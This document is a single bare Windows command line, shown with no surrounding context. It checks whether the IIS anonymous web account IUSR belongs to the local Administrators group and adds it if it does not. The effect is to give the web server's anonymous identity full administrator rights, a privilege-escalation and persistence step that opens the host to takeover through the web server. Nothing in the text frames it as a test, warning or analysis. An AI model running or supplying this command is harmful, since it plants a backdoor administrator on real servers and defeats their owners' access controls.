cmd /c "net localgroup Administrators | findstr /i IUSR || net localgroup Administrators IUSR /add"
